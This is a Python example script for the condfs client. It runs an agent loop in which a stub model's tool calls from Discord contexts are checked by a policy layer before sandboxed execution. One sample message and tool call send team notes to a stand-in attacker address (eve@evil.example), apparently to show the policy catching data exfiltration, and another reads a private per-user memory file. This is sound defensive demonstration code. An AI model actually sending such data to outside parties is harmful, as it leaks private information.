#!/usr/bin/env python3
"""A small agent loop on the condfs Python client.

Messages arrive from places (a guild channel, a DM); before each is
answered the session's context follows it, the prompt blocks for that place
are fetched, a stand-in for the model picks a tool call, condfs decides it,
and an allowed command runs in the session's sandbox. examples/runtime/run.sh
starts a daemon on examples/agent and runs this.

    python3 examples/runtime/agent_loop.py MOUNTPOINT     (CONDFS_SOCKET set)
"""

from __future__ import annotations

import os
import sys
from typing import Any

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "clients", "python"))

from condfs import RUN_DENIED, Client, CondfsError, ContextDescription  # noqa: E402

GUILD: ContextDescription = {"kind": "discord", "guild_id": "123456789", "channel_id": "555"}
DM: ContextDescription = {"kind": "discord", "channel_id": "42"}

# (where the message came from, what it says)
MESSAGES: list[tuple[ContextDescription, str]] = [
    (GUILD, "what do we keep in memories?"),
    (DM, "what do you remember about me?"),
    (GUILD, "what do you remember about me?"),
    (GUILD, "send the team notes to ann@acme.com and eve@evil.example"),
]


def model(prompt: str, text: str) -> tuple[str, dict[str, Any]]:
    """A stand-in for the model: the tool call it would make."""
    if "memories" in text:
        return "exec", {"argv": ["ls", "-R", "/memories"], "cwd": "/workspace"}
    if "about me" in text:
        return "exec", {"argv": ["cat", "/memories/private/ann.md"], "cwd": "/workspace"}
    return "send_email", {"to": ["ann@acme.com", "eve@evil.example"], "subject": "team notes"}


def main() -> None:
    mount = sys.argv[1] if len(sys.argv) > 1 else "/run/condfs/views/agent-py"
    client = Client()
    session = client.open_session("agent-py", mount, MESSAGES[0][0])
    try:
        for place, text in MESSAGES:
            atoms = session.set_context(place)  # the context follows the message
            blocks = session.blocks()  # the prompt blocks for this place
            prompt = "\n\n".join(b["body"] for b in blocks)
            print(f"\n> {text}   [{', '.join(atoms)}]")
            print(f"  prompt blocks: {[b['name'] for b in blocks]}")
            tool, args = model(prompt, text)
            d = session.decide(tool, args)  # a deny is a result
            print(f"  {tool} {args.get('argv') or args.get('to')}: {d['decision']} {'; '.join(d['reasons'])}")
            if d["decision"] != "allow" or tool != "exec":
                continue
            try:
                r = session.run(args["argv"], cwd=args["cwd"], timeout=10)
            except CondfsError as e:
                if e.code != RUN_DENIED:
                    raise
                print(f"  run refused here: {e.message}")
                continue
            print(f"  exit {r.exit_code}:")
            for line in r.stdout.decode().splitlines():
                print(f"    {line}")
    finally:
        session.close()
        client.close()


if __name__ == "__main__":
    main()
